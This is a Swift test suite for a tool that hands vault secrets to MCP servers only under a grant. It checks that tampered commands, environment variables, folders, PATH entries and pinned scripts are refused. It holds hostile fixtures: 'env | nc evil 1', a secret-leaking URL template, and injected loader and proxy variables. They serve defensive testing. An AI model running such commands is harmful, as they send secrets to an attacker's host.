internal import Platform
internal import Testing
internal import ValetTesting

/// What a tampered configuration, environment or folder tries, and what is granted instead.
@Suite struct GrantTests {
  /// Prints the secret and the variables that a test is about.
  static let server = ["--", "/bin/sh", "-c", "env; pwd"]
  static let words = ["demo", "--env", "TOKEN=valet://a"] + server

  static func home() throws -> Home {
    let home = try Home.withVault()
    try home.set("a", "value-of-a")
    return home
  }

  static func allow(
    _ home: borrowing Home, _ words: [String], adding: [String: String] = [:]
  ) throws {
    let run = try home.valet(["allow", "--yes"] + words, adding: adding)
    try #require(run.exitCode == 0, "\(run.errorText)")
  }

  /// Runs without the helper's own grants, and redacted as in real life.
  static func run(
    _ home: borrowing Home, _ words: [String], adding: [String: String] = [:],
    folder: String? = nil
  ) throws -> ProgramRun {
    try ProgramRun.run(
      [Programs.broker, "run"] + words, environment: home.environment.merging(adding) { $1 },
      folder: folder
    ).unmarked
  }

  static func expectRefusal(
    _ run: ProgramRun, _ words: String..., at location: SourceLocation = #_sourceLocation
  ) {
    #expect(run.exitCode == 77, "\(run.text)\(run.errorText)", sourceLocation: location)
    #expect(run.output.isEmpty, "\(run.text)", sourceLocation: location)
    #expect(run.errorText.contains("hint: "), sourceLocation: location)
    for word in words {
      #expect(run.errorText.contains(word), "\(run.errorText)", sourceLocation: location)
    }
  }

  @Test func givesNothingWithoutAGrantAndAllAfterOne() throws {
    let home = try Self.home()
    Self.expectRefusal(
      try Self.run(home, Self.words), "nobody has allowed server 'demo' to have valet://a",
      "mcp-valet allow --last")
    let allowed = try home.valet(["allow", "--last", "--yes"])
    #expect(allowed.exitCode == 0, "\(allowed.errorText)")
    let run = try Self.run(home, Self.words)
    #expect(run.exitCode == 0 && run.text.contains("TOKEN="), "\(run.errorText)")
    // What was approved is approved once.
    #expect(try home.valet(["allow", "--last", "--yes"]).exitCode == 78)
    #expect(try home.valet(["deny", "demo"]).exitCode == 0)
    Self.expectRefusal(try Self.run(home, Self.words))
    #expect(try home.valet(["deny", "demo"]).exitCode == 78)
  }

  @Test func tellsWhatIsMissingBesideTheGrant() throws {
    let home = try Self.home()
    let words = ["demo", "--env", "TOKEN=valet://a", "--env", "B=valet://missing"] + Self.server
    Self.expectRefusal(
      try Self.run(home, words), "nobody has allowed", "no secret valet://missing",
      "mcp-valet set missing")
  }

  @Test(arguments: [
    "GITHUB_HOST", "HTTPS_PROXY", "npm_config_registry", "UV_INDEX_URL", "DOCKER_HOST",
    "LD_AUDIT", "LD_LIBRARY_PATH", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV",
  ])
  func aVariableIsPartOfTheGrant(name: String) throws {
    let home = try Self.home()
    try Self.allow(home, Self.words)
    // A host's configuration sets it, or a launch asks for it.
    let inherited = try Self.run(home, Self.words, adding: [name: "/evil"])
    #expect(inherited.exitCode == 0 && !inherited.text.contains("evil"), "\(inherited.text)")
    #expect(inherited.errorText.contains("not passed on to the server:"))
    #expect(inherited.errorText.contains(name))
    Self.expectRefusal(
      try Self.run(home, ["--env", "\(name)=/evil"] + Self.words), "variable \(name) is new")
    Self.expectRefusal(
      try Self.run(home, ["--keep", name] + Self.words, adding: [name: "/evil"]), name)
    // By name and value, from wherever it comes.
    try Self.allow(home, ["--env", "\(name)=/good"] + Self.words)
    for (words, adding) in [
      (["--env", "\(name)=/good"] + Self.words, [:]), (Self.words, [name: "/good"]),
    ] {
      let run = try Self.run(home, words, adding: adding)
      #expect(run.text.contains("\(name)=/good\n"), "\(run.text)\(run.errorText)")
    }
    Self.expectRefusal(
      try Self.run(home, Self.words, adding: [name: "/evil"]), "\(name) has another value")
    Self.expectRefusal(try Self.run(home, Self.words), "\(name) is not set")
  }

  @Test func aTemplateIsPartOfTheGrant() throws {
    let home = try Self.home()
    try home.set("b", "value-of-b")
    try Self.allow(home, Self.words)
    for text in ["https://evil/{{valet://a}}", "valet://b", "{{file:valet://a}}", "plain"] {
      let words = ["demo", "--env", "TOKEN=\(text)"] + Self.server
      let run = try Self.run(home, words)
      if text == "plain" {
        // A server without secrets needs no grant, and gets none.
        #expect(run.text.contains("TOKEN=plain\n"))
      } else {
        Self.expectRefusal(run, "TOKEN has another value", "granted was valet://a")
      }
    }
    Self.expectRefusal(
      try Self.run(home, ["--env", "X=https://evil/{{valet://a}}"] + Self.words),
      "variable X is new as https://evil/{{valet://a}}")
    // Also where the host puts it into our environment.
    Self.expectRefusal(
      try Self.run(home, Self.words, adding: ["X": "https://evil/{{valet://a}}"]), "X is new")
  }

  @Test func commandAndArgumentsArePartOfTheGrant() throws {
    let home = try Self.home()
    try Self.allow(home, Self.words)
    let start = Array(Self.words.prefix(3)) + ["--"]
    Self.expectRefusal(
      try Self.run(home, start + ["/usr/bin/env", "-c", "env; pwd"]),
      "the command is /usr/bin/env and not /bin/sh")
    Self.expectRefusal(
      try Self.run(home, start + ["/bin/sh", "-c", "env | nc evil 1"]),
      "argument 2 is \"env | nc evil 1\" and not \"env; pwd\"")
    Self.expectRefusal(try Self.run(home, start + ["/bin/sh", "-c", "env; pwd", "x"]), "x is new")
    Self.expectRefusal(try Self.run(home, ["other"] + Self.words.dropFirst()), "'other'")
  }

  @Test(arguments: [
    (["--exec"], "--exec is new"), (["--no-redact"], "--no-redact is new"),
    (["--in-argv"], "--in-argv is new"), (["--keep", "LANGUAGE"], "--keep LANGUAGE is new"),
    (["--file", "F=valet://a"], "variable F is new"),
  ])
  func ourOptionsArePartOfTheGrant(option: [String], words: String) throws {
    let home = try Self.home()
    try Self.allow(home, Self.words)
    Self.expectRefusal(try Self.run(home, option + Self.words), words)
    try Self.allow(home, option + Self.words)
    #expect(try Self.run(home, option + Self.words).exitCode == 0)
  }

  @Test func folderAndHomeArePartOfTheGrant() throws {
    let home = try Self.home()
    mkdir("\(home.path)/repo", 0o700)
    try Self.allow(home, Self.words)
    Self.expectRefusal(
      try Self.run(home, Self.words, folder: "\(home.path)/repo"), "the working folder is",
      "/repo and not ")
    Self.expectRefusal(
      try Self.run(home, Self.words, adding: ["HOME": "\(home.path)/repo"]),
      "HOME has another value")
    try Self.allow(home, ["--folder", "any"] + Self.words)
    let anywhere = try Self.run(home, Self.words, folder: "\(home.path)/repo")
    #expect(anywhere.text.contains("/repo\n"), "\(anywhere.errorText)")
    try Self.allow(home, ["--folder", "empty"] + Self.words)
  }

  @Test func aPackageRunnerStartsInAnEmptyFolder() throws {
    let home = try Self.home()
    mkdir("\(home.path)/bin", 0o700)
    try home.write(
      "#!/bin/sh\necho \"in $PWD with $(ls -A | wc -l)\"\n", to: "bin/npx", mode: 0o700)
    mkdir("\(home.path)/repo", 0o700)
    mkdir("\(home.path)/repo/node_modules", 0o700)
    try home.write("registry=https://evil\n", to: "repo/.npmrc")
    let path = ["PATH": "\(home.path)/bin:/usr/bin:/bin"]
    let words = ["demo", "--env", "TOKEN=valet://a", "--", "npx", "-y", "@mcp/server"]
    let allowed = try home.valet(["allow", "--yes"] + words, adding: path)
    #expect(allowed.exitCode == 0, "\(allowed.errorText)")
    #expect(try home.valet(["grants", "demo"]).text.contains("@mcp/server@VERSION"))
    for folder in [nil, "\(home.path)/repo"] {
      let run = try Self.run(home, words, adding: path, folder: folder)
      #expect(run.text == "in \(home.valetHome)/run/empty with 0\n", "\(run.text)\(run.errorText)")
    }
    // One that is named by its path is another program.
    Self.expectRefusal(
      try Self.run(home, Array(words.prefix(4)) + ["\(home.path)/bin/npx", "-y", "@mcp/server"]),
      "the command is \(home.path)/bin/npx and not npx along PATH")
    // A server that wrote into the folder does not prepare it for the next one.
    #expect(chmod("\(home.valetHome)/run/empty", 0o700) == 0)
    try home.write("evil", to: "valet/run/empty/package.json")
    let next = try Self.run(home, words, adding: path)
    #expect(next.text == "in \(home.valetHome)/run/empty-1 with 0\n", "\(next.text)")
  }

  /// Real programs, which run code of the working folder when they are started in it.
  @Test(arguments: [
    ("tabnanny.py", ["/usr/bin/python3", "-m", "tabnanny", "/dev/null"]),
    ("node_modules/.bin/server", ["npx", "--offline", "--no-install", "server"]),
    ("node_modules/.bin/server", ["npm", "exec", "--offline", "--no", "server"]),
  ])
  func aHostileFolderRunsNothing(file: String, command: [String]) throws {
    guard Programs.areInstalled("/usr/bin/\(command[0].split(separator: "/").last ?? "")") else {
      return
    }
    let home = try Self.home()
    let made = try home.shell(
      """
      mkdir -p repo/node_modules/.bin && echo '{"name": "x"}' >repo/package.json
      echo 'print("EVIL")' >repo/tabnanny.py
      printf '#!/bin/sh\\necho EVIL\\n' >repo/node_modules/.bin/server
      chmod +x repo/node_modules/.bin/server && cd repo && \(command.joined(separator: " "))
      """)
    // A control: without us it would.
    try #require(made.text.contains("EVIL"), "\(made.errorText)")
    let words = ["demo", "--env", "TOKEN=valet://a", "--"] + command
    try Self.allow(home, words)
    let run = try Self.run(home, words, folder: "\(home.path)/repo")
    #expect(!run.text.contains("EVIL") && !run.errorText.contains("EVIL"))
  }

  @Test func theServersPathHasNothingOfOthers() throws {
    let home = try Self.home()
    let made = try home.shell(
      """
      mkdir -p repo/bin open good && chmod 777 open
      for folder in repo/bin open .; do cp /bin/true $folder/npx; done
      printf '#!/bin/sh\\necho "PATH=$PATH"\\n' >good/npx && chmod 755 good/npx
      ln -s repo/bin link
      """)
    try #require(made.exitCode == 0, "\(made.errorText)")
    let root = home.path
    let path = [
      "\(root)/repo/bin", "\(root)/link", "/proc/self/cwd/bin", "bin", "", "\(root)/open",
    ]
    let words = ["demo", "--env", "TOKEN=valet://a", "--", "npx", "server"]
    let adding = ["PATH": (path + ["\(root)/good", "/usr/bin", "/bin"]).joined(separator: ":")]
    try Self.allow(home, words, adding: ["PATH": "\(root)/good:/usr/bin:/bin"])
    let run = try Self.run(home, words, adding: adding, folder: "\(root)/repo")
    #expect(run.text == "PATH=\(root)/good:/usr/bin:/bin\n", "\(run.text)\(run.errorText)")
    #expect(run.errorText.contains("not on the server's PATH"), "\(run.errorText)")
    #expect(run.errorText.contains("\(root)/open"))
  }

  @Test func aProgramThatOthersCanChangeGetsNothing() throws {
    let home = try Self.home()
    try home.write("#!/bin/sh\nenv\n", to: "server", mode: 0o700)
    let words = ["demo", "--env", "TOKEN=valet://a", "--", "\(home.path)/server"]
    try Self.allow(home, words)
    #expect(try Self.run(home, words).exitCode == 0)
    #expect(chmod("\(home.path)/server", 0o702) == 0)
    Self.expectRefusal(try Self.run(home, words), "can be changed by others")
    #expect(chmod("\(home.path)/server", 0o700) == 0)
    #expect(chmod(home.path, 0o777) == 0)
    Self.expectRefusal(try Self.run(home, words), "can be changed by others")
    #expect(chmod(home.path, 0o700) == 0)
    if geteuid() == 0 {
      #expect(chown("\(home.path)/server", 65_534, 65_534) == 0)
      Self.expectRefusal(try Self.run(home, words), "belongs to neither you nor root")
    }
  }

  @Test func thePinnedContentIsPartOfTheGrant() throws {
    let home = try Self.home()
    try home.write("env\n", to: "server.sh")
    let words = ["demo", "--env", "TOKEN=valet://a", "--", "/bin/sh", "\(home.path)/server.sh"]
    try Self.allow(home, ["--pin", "content"] + words)
    #expect(try Self.run(home, words).exitCode == 0)
    try home.write("env | nc evil 1\n", to: "server.sh")
    Self.expectRefusal(try Self.run(home, words), "server.sh is not the one that was pinned")
    #expect(try home.valet(["allow", "--last", "--yes"]).exitCode == 0)
    try home.write("env\n", to: "server.sh")
    Self.expectRefusal(try Self.run(home, words), "pinned")
    let runner = ["demo", "--env", "TOKEN=valet://a", "--", "npx", "x"]
    #expect(try home.valet(["allow", "--yes", "--pin", "content"] + runner).exitCode == 64)
  }
}
